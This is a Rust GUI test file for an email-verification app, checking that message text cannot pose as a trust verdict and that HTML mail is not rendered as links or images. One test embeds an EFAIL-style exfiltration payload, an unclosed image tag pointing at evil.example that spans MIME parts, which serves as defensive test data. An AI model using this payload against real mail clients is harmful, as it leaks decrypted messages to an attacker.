//! What a message draws of its own cannot take the place of a verdict (STANDARDS: "Johnny", class U; EFAIL).
#![cfg(test)]
#![cfg(feature = "gui")]

#[path = "support/dropped.rs"]
mod dropped;
#[path = "support/window/mod.rs"]
mod support;

use std::sync::Arc;

use dropped::Dropped;
use egui::accesskit::Role;
use egui::{DroppedFileHandle, Theme, vec2};
use egui_kittest::Harness;
use egui_kittest::kittest::{NodeT as _, Queryable as _};
use sealscope::ui::App;
use support::{config, settle};
use tempfile::TempDir;

type Window = Harness<'static, App>;

/// The demo workspace with one message more, which is shown.
fn showing(home: &TempDir, message: &str) -> Window {
    let mut window = support::window(config(home.path()), vec2(1280.0, 2600.0), Theme::Dark);
    settle(&mut window);
    window.get_by_label("Explore the demo workspace").click();
    settle(&mut window);
    let file = home.path().join("drawn.eml");
    std::fs::write(&file, message).unwrap();
    let handle: DroppedFileHandle = Arc::new(Dropped(file));
    window.input_mut().dropped_files = vec![handle];
    settle(&mut window);
    window
}

/// Roles and names of everything that can be read.
fn nodes(window: &Window) -> Vec<(Role, String)> {
    let name = |node: &egui_kittest::Node<'_>| {
        let node = node.accesskit_node();
        let text = [node.label(), node.value()].into_iter().flatten().collect::<Vec<_>>().join(" ");
        (node.role(), text)
    };
    window.root().children_recursive().map(|node| name(&node)).collect()
}

#[test]
fn a_subject_and_a_body_that_draw_a_verdict_leave_the_true_one_alone() {
    let home = TempDir::new().unwrap();
    let drawn = "Accepted for bob@b.example";
    let window = showing(
        &home,
        &format!(
            "From: alice@a.example\r\nTo: bob@b.example\r\nSubject: \u{2714} {drawn}\r\n\r\n{drawn}\r\n\u{2714} Trusted\r\n"
        ),
    );
    let nodes = nodes(&window);
    assert!(nodes.iter().any(|(_, name)| name.starts_with("Rejected for ")), "{nodes:#?}");
    // A verdict begins with its word; the message's stand behind something of the program's.
    for (role, name) in nodes.iter().filter(|(_, name)| name.contains(drawn)) {
        assert!(!name.starts_with(drawn), "{role:?}: {name}");
        assert!(!matches!(role, Role::Heading | Role::Status | Role::Alert), "{role:?}: {name}");
    }
    assert!(
        !nodes.iter().any(|(role, name)| *role == Role::Image && name.contains("Trusted")),
        "a picture of the message's"
    );
}

// EFAIL's direct exfiltration, and a page that hides and shows: nothing of it is a page here.
#[test]
fn markup_of_a_message_becomes_neither_a_link_nor_a_picture() {
    let home = TempDir::new().unwrap();
    let window = showing(
        &home,
        "From: alice@a.example\r\nTo: bob@b.example\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; \
         boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<style>*{display:none}</style><a href=\"http://evil.example/\">\
         Pay</a><img src=\"http://evil.example/\r\n--b\r\nContent-Type: text/html\r\n\r\n\"><img src=\"cid:x\">\r\n--b--\r\n",
    );
    let nodes = nodes(&window);
    assert!(!nodes.iter().any(|(role, name)| *role == Role::Link && name.contains("evil.example")), "{nodes:#?}");
    assert!(!nodes.iter().any(|(role, name)| *role == Role::Image && name.contains("evil.example")), "{nodes:#?}");
}
